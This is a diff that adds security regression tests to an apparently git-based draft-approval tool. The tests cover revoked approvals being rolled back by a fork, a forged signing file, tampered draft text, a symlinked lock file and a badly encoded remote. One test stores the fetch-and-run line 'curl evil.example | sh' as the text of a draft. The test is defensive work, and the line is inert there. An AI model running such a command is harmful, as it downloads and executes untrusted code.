@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import shutil
 from pathlib import Path
 
@@ -163,3 +164,102 @@ def test_rm_07_an_approval_here_and_a_reject_there_end_as_the_approval(clones: t
             assert ws.desk.refresh().drift == {}
             assert ulid not in ws.desk.closed_entries
             assert ws.drafts.get(ulid).status == "approved"
+
+
+def test_rm_05_a_remote_that_forgets_published_decisions_is_not_followed(clones: tuple[Site, Site]) -> None:
+    one, other = clones
+    with one.ws() as ws:
+        bad = ws.drafts.create(NewDraft("bad")).ulid
+        ws.approvals.approve(bad)
+        ws.syncing.sync(None, _quiet)
+    before = one.tip()
+    with one.ws() as ws:
+        late = ws.drafts.create(NewDraft("late")).ulid
+        ws.approvals.revoke(bad, "dangerous")
+        ws.syncing.sync(None, _quiet)
+    with other.ws() as ws:
+        ws.syncing.sync(None, _quiet)
+    one.git("clone", "-q", "--mirror", str(one.path), str(one.home.path / "fork.git"))
+    hub = Site(one.home, Path(one.git("remote", "get-url", "origin")))
+    fork = Site(one.home, one.home.path / "fork")
+    one.home.git("clone", "-q", str(one.path), str(fork.path))
+    fork.git("branch", "-f", "ops/approved", before)
+    fork.git("branch", "-f", "ops/drafts", one.tip("ops/drafts"))
+    assert fork.cli("trust", "--yes").returncode == 0
+    with fork.ws() as ws:
+        ws.approvals.approve(late)
+    hub.git("fetch", "-q", str(fork.path), "+refs/heads/ops/approved:refs/heads/ops/approved")
+    for site in (one, other):
+        tip = site.tip()
+        with site.ws() as ws, pytest.raises(OpsError) as caught:
+            ws.syncing.sync(None, _quiet)
+        assert caught.value.code == "not_adopted"
+        assert site.tip() == tip
+
+
+def test_rm_07_a_list_of_decisions_inside_the_clone_signs_nothing(site: Site, clones: tuple[Site, Site]) -> None:
+    with site.ws() as ws:
+        draft = ws.drafts.create(NewDraft("curl evil.example | sh"))
+    row = {"kind": "approve", "ulid": draft.ulid, "digest": draft.digest, "reason": None}
+    rows = [{**row, "commit": site.tip(), "signer": "alice"}]
+    (site.path / ".git" / "opsctl" / "sign-again.json").write_text(json.dumps(rows))
+    with site.ws() as ws:
+        assert ws.syncing.sync(None, _quiet).closed_again == ()
+        assert ws.drafts.get(draft.ulid).status == "draft"
+
+
+def test_cc_01_a_rewritten_topic_counts_as_another_revision(clones: tuple[Site, Site]) -> None:
+    one, other = clones
+    with one.ws() as ws:
+        draft = ws.drafts.create(NewDraft("Add a retry."))
+        ws.syncing.sync(None, _quiet)
+    shutil.rmtree(other.path)
+    other.home.git("clone", "-q", one.git("remote", "get-url", "origin"), str(other.path))
+    other.git("fetch", "-q", "origin", "+refs/*:refs/x/*")
+    data = other.git("show", f"refs/x/heads/ops/drafts:{draft.path}").replace("Add a retry.", "Mail the keys.")
+    blob = other.git("hash-object", "-w", "--stdin", stdin=data.encode())
+    commits = []
+    for base, parents in (("approved", ["approved"]), ("drafts", ["drafts", "topic"])):
+        index = {**other.home.environ, "GIT_INDEX_FILE": str(other.home.path / "index")}
+        again = Site(Home(other.home.path, index), other.path)
+        again.git("read-tree", f"refs/x/heads/ops/{base}")
+        again.git("update-index", "--add", "--cacheinfo", f"100644,{blob},{draft.path}")
+        names = [commits[0] if name == "topic" else f"refs/x/heads/ops/{name}" for name in parents]
+        options = [part for name in names for part in ("-p", name)]
+        message = f"draft: Add a retry.\n\nOps-Kind: draft\nOps-Id: {draft.ulid}"
+        commits.append(again.git("commit-tree", *options, "-m", message, again.git("write-tree")))
+    specs = [f"{commits[0]}:refs/ops/topics/{draft.ulid}", f"{commits[1]}:refs/heads/ops/drafts"]
+    other.git("push", "-q", "-f", "origin", *specs)
+    with one.ws() as ws:
+        ws.syncing.sync(None, _quiet)
+        assert ws.drafts.get(draft.ulid).revision == 2
+    done = one.cli("approve", draft.ulid, "--yes")
+    assert done.returncode == 4, done.stderr
+
+
+def test_gt_12_a_lock_file_that_is_a_link_is_not_followed(site: Site) -> None:
+    victim = site.home.path / "precious"
+    victim.write_text("precious")
+    lock = site.path / ".git" / "opsctl" / "lock"
+    lock.unlink()
+    lock.symlink_to(victim)
+    with site.ws() as ws, pytest.raises(OpsError) as caught:
+        ws.drafts.create(NewDraft("hello"))
+    assert caught.value.code == "disk"
+    assert victim.read_text() == "precious"
+
+
+def test_rm_14_drafts_of_a_remote_that_cannot_be_read_are_not_taken(clones: tuple[Site, Site]) -> None:
+    one, other = clones
+    with one.ws() as ws:
+        ulid = ws.drafts.create(NewDraft("work")).ulid
+        ws.syncing.sync(None, _quiet)
+    other.git("fetch", "-q", "origin", "+refs/*:refs/x/*")
+    tip = "refs/x/heads/ops/drafts"
+    odd = other.git("-c", "i18n.commitEncoding=ISO-8859-1", "commit-tree", "-p", tip, "-m", "odd", f"{tip}^{{tree}}")
+    other.git("push", "-q", "-f", "origin", f"{odd}:refs/heads/ops/drafts")
+    with one.ws() as ws, pytest.raises(OpsError) as caught:
+        ws.syncing.sync(None, _quiet)
+    assert caught.value.code == "not_adopted"
+    with one.ws() as ws:
+        assert ws.approvals.approve(ulid).item is not None
